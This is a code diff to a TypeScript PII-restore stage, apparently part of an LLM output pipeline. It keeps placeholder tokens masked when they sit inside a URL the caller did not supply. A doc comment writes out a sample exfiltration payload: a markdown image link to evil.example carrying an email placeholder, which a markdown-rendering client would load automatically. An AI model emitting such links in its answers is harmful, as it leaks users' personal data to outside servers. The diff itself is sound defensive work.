@@ -267,8 +267,34 @@ async function restoreFunctionCalls(calls: readonly FunctionCall[], restorer: Re
 }
 
 /** Restores free text (the answer, or a string of structured output), keeping credential-completing tokens. */
-function restoreText(text: string, restorer: Restorer, credentialKept: KeptTokens): Promise<string> {
-  return restoreChecked(text, restorableTokens(text, restorer), new Set(), restorer, credentialKept);
+const WORD = /\S+/g;
+
+/**
+ * The text answer restored, except tokens inside a word that points somewhere the caller did not
+ * write (`![](https://evil.example/?d=[EMAIL_1])`: a client that renders markdown loads it, and the
+ * value is in someone's server log without a click). Judged word by word: in text, white space ends
+ * a link. A word the caller wrote, restored, is restored.
+ */
+function restoreText(text: string, restorer: Restorer, caller: () => Set<string>, urlKept: KeptTokens, credentialKept: KeptTokens): Promise<string> {
+  const tokens = restorableTokens(text, restorer);
+  const keep = new Set<TokenAt>();
+  if (tokens.length > 0) {
+    for (const word of text.matchAll(WORD)) {
+      const start = word.index;
+      const end = start + word[0].length;
+      const inWord = tokens.filter((t) => t.start >= start && t.end <= end);
+      if (inWord.length === 0) continue;
+      const restored = restoreExcept(word[0], inWord.map((t) => ({ ...t, start: t.start - start, end: t.end - start })), new Set(), restorer).text;
+      if (!holdsUrl(word[0]) && !holdsUrl(restored)) continue;
+      const unwrapped = restored.replace(URL_WRAPPING, '');
+      if (caller().has(restored) || caller().has(unwrapped)) continue;
+      for (const t of inWord) {
+        keep.add(t);
+        urlKept.add(t.token);
+      }
+    }
+  }
+  return restoreChecked(text, tokens, keep, restorer, credentialKept);
 }
 
 export const piiRestore: Stage = {
@@ -296,7 +322,7 @@ export const piiRestore: Stage = {
           ctx.structuredValue = await restoreData(ctx.structuredValue, restorer, callerOnce, urlKept, credentialKept);
           ctx.finalText = JSON.stringify(ctx.structuredValue);
         } else ctx.finalText = ctx.output;
-      } else ctx.finalText = await restoreText(ctx.output, restorer, credentialKept);
+      } else ctx.finalText = await restoreText(ctx.output, restorer, callerOnce, urlKept, credentialKept);
       ctx.finalFunctionCalls = await restoreFunctionCalls(ctx.functionCalls ?? [], restorer, callerOnce, urlKept, credentialKept);
     } catch (error) {
       ctx.finalText = ctx.output;
